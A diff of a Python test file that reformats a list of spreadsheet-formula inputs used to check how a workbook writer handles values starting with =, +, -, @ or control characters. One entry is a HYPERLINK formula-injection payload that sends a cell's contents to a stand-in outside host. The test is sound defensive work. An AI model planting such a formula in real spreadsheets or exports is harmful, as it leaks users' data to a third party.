@@ -11,8 +11,18 @@ from cpom.core.workbooks import append, sheet_title, write
 
 pytestmark = pytest.mark.pure
 
-TYPED_LIKE_FORMULAS = ["=2+3", '=HYPERLINK("http://exemple.fr/?"&A1,"Cliquez ici")', "+33 2 40 00 00 00", "-2",
-                       "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "#N/A", "=", "Foyer = maison"]
+TYPED_LIKE_FORMULAS = [
+    "=2+3",
+    '=HYPERLINK("http://exemple.fr/?"&A1,"Cliquez ici")',
+    "+33 2 40 00 00 00",
+    "-2",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "#N/A",
+    "=",
+    "Foyer = maison",
+]
 
 
 def _read_back(workbook):
